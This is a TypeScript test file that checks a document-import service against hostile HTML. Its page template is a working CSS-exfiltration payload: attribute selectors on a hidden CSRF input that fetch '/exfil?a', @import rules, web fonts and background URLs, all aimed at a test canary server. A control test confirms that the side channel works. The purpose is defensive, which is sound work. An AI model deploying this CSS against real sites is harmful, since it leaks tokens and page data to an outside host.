import { JSDOM, VirtualConsole } from 'jsdom';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importFile } from '../../src/service/document-import/index';
import { expectNoLeak, settle, startCanary, utf8, type Canary } from './canary';

const WORDS = [
  'Ministers agreed a new fisheries quota late on Thursday, two officials said.',
  'The deal cuts the cod catch by a fifth, according to a draft seen by reporters.',
];

/** CSS that would leak the page (attribute selectors with background URLs, imports, web fonts) if anything loaded it. */
function exfiltratingPage(url: string): string {
  return `<!doctype html><html><head><title>Fisheries deal</title>
<link rel="stylesheet" href="${url}/linked.css">
<style>
@import url("${url}/imported.css");
@import '${url}/imported2.css';
@font-face { font-family: leak; src: url(${url}/font.woff2) format("woff2"); unicode-range: U+0041; }
input[value^="a"] { background: url(${url}/exfil?a); }
input[value^="b"] { background-image: url('${url}/exfil?b'); }
body { background: url(${url}/body-bg.png); font-family: leak; }
p::after { content: url(${url}/after.svg); }
li { list-style-image: url(${url}/bullet.png); }
</style></head>
<body style="background:url(${url}/inline-style.png)">
<article><h1>Fisheries deal</h1>
<p style="background-image:url(${url}/p-style.png); cursor:url(${url}/cursor.cur), auto">${WORDS[0]}</p>
<input type="hidden" name="csrf" value="abcdef">
<ul><li>${WORDS[1]}</li></ul>
<svg><style>@import url(${url}/svg-import.css);</style><image href="${url}/svg-image.png"/><use href="${url}/sprite.svg#x"/></svg>
</article></body></html>`;
}

let canary: Canary;
beforeAll(async () => {
  canary = await startCanary();
});
afterAll(() => canary.close());

describe('hostile HTML: CSS exfiltration', () => {
  it('loads no stylesheet, font or background, and keeps no CSS in the text', async () => {
    const started = Date.now();
    const result = await importFile('css.html', utf8(exfiltratingPage(canary.url)));
    const elapsed = Date.now() - started;
    await settle();
    if (!result.ok) throw new Error(result.error.message);
    for (const words of WORDS) expect(result.value.text).toContain(words);
    expectNoLeak(result.value.text, expect);
    for (const css of ['background', 'font-family', 'list-style', canary.url])
      expect(result.value.text).not.toContain(css);
    expect(canary.hits).toEqual([]);
    expect(elapsed).toBeLessThan(10_000);
  }, 20_000);

  it('(control) a DOM that loads subresources does request the stylesheets, so the side channel works', async () => {
    const control = await startCanary();
    try {
      const dom = new JSDOM(exfiltratingPage(control.url), {
        resources: 'usable',
        virtualConsole: new VirtualConsole(),
      });
      for (let i = 0; i < 40 && !control.hits.some((h) => h.includes('.css')); i++) await settle(100);
      expect(control.hits.some((h) => h.includes('linked.css'))).toBe(true);
      dom.window.close();
    } finally {
      await control.close();
    }
  }, 20_000);
});
